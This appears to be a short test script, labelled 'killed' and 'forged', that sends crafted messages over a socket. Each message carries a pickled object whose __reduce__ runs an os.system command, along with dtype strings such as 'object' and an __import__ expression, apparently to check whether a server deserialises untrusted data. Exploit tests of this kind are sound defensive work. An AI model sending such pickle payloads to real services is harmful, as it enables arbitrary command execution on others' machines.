# outcome: killed
# notes: forged
import os, socket

SOCK = socket.socket(fileno=3)

import json, pickle, struct


class Boom:
    def __reduce__(self):
        return (os.system, ("touch /tmp/unpickled",))


def conv_forward():
    for dtype in ("object", "O", "V8", "M8[ns]", "float64,O", "__import__('os')"):
        blob = pickle.dumps(Boom())
        text = json.dumps(
            {
                "sequence": 4,
                "body": ["a", [dtype, [len(blob)], 0]],
                "blobs": [len(blob)],
            }
        ).encode()
        SOCK.settimeout(5)
        SOCK.sendall(struct.pack("!4sIQ", b"CNN1", len(text), len(blob)) + text + blob)
    os._exit(0)
